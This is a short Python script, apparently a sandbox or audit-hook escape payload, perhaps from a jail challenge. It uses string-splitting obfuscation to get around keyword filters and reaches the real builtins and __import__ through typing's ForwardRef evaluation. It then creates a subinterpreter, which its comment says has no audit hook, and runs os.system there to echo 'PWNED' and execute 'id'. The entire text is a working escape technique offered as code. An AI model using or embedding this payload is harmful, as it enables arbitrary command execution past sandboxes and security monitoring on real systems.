# tramp: ExitStack callback imports _xxsubinterpreters; a subinterpreter has no audit hook
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

import contextlib
with contextlib.ExitStack() as st:
    st.callback(imp, "_xxsub" + "interpreters")
si = imp("_xxsub" + "interpreters")
si.run_string(si.create(), "import os; os.system(\"echo PWN''ED from a subinterpreter; id\")")
